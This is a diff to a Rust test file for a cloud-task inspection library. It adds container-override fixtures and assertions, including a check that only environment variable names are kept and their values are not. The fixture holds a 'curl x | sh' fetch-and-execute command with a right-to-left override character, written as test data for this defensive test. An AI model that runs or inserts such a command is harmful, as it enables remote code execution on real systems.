@@ -5,7 +5,7 @@ use std::time::Duration;
 use quench_core::cloud_error::CloudErrorKind as Kind;
 use quench_core::region::RegionCode;
 use quench_core::report::PartState;
-use quench_core::resource::DefinitionStatus;
+use quench_core::resource::{ContainerOverride, DefinitionStatus};
 use serde_json::{Value, json};
 use tokio_util::sync::CancellationToken;
 
@@ -148,6 +148,10 @@ async fn a_task_in_all_its_forms() {
             "attributes": [{ "name": "ecs.cpu-architecture", "value": "arm64" }],
             "ephemeralStorage": { "sizeInGiB": 30 }, "createdAt": 1_791_122_400.123,
             "containers": [{ "image": "yenik65958/secret:user" }],
+            "overrides": { "taskRoleArn": "arn:aws:iam::123456789012:role/ecs", "containerOverrides": [
+                { "name": "side" },
+                { "name": "main", "command": ["sh", "-c", "curl x | sh\u{202e}"],
+                  "environment": [{ "name": "WALLET", "value": "s3cret" }] } ] },
         }] }))
     });
     let described =
@@ -159,6 +163,13 @@ async fn a_task_in_all_its_forms() {
     assert_eq!(task.started_by.as_deref(), Some("ecs-svc/1\\u{202e}"));
     assert_eq!(task.created_at.unwrap().as_millisecond(), 1_791_122_400_123);
     assert_eq!(task.images, ["yenik65958/secret:user"]);
+    let main = ContainerOverride {
+        name: "main".to_owned(),
+        command: ["sh", "-c", "curl x | sh\\u{202e}"].map(str::to_owned).to_vec(),
+        environment_names: vec!["WALLET".to_owned()],
+    };
+    assert_eq!(task.overrides.containers, [main], "names of variables, never their values");
+    assert_eq!(task.overrides.task_role.as_deref(), Some("arn:aws:iam::123456789012:role/ecs"));
 }
 
 #[tokio::test(start_paused = true)]
